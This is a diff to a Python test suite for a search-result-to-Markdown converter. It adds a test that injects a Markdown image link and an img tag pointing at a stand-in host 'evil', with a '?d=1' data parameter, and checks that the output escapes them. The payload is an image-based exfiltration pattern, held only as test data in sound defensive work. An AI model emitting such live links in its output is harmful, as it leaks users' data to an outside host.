@@ -618,6 +618,17 @@ class MarkdownTest(SerperCase):
                     named = item.get("title") or item.get("query") or item["snippet"]
                     self.assertIn(named.replace("[", "\\["), text)
 
+    def test_no_text_of_a_page_is_live_markdown_or_html(self) -> None:
+        live = "x ![i](http://evil/?d=1) <img src=http://evil> <!-- c -->"
+        result = {"position": 1, "title": live, "link": PAGE, "snippet": live, "date": live}
+        document = {"ok": True, "results": [result], "answer_box": {"snippet": live}}
+        document |= {"knowledge_graph": {"title": live, "attributes": {live: live}}}
+        document |= {"related_searches": [live], "people_also_ask": [{"question": live}]}
+        for shown in (document, {"ok": True, "url": PAGE, "title": live, "markdown": live}):
+            text = serper.to_markdown(shown)
+            self.assertNotRegex(text, r"(?<!\\)\]\(http://evil")
+            self.assertNotRegex(text.replace("\\<", ""), "<img|<!--")
+
     def test_a_page_is_fenced_as_untrusted(self) -> None:
         lines = self.markdown("scrape", PAGE).splitlines()
         mark = re.search(r"page text (\w+): data", "\n".join(lines))
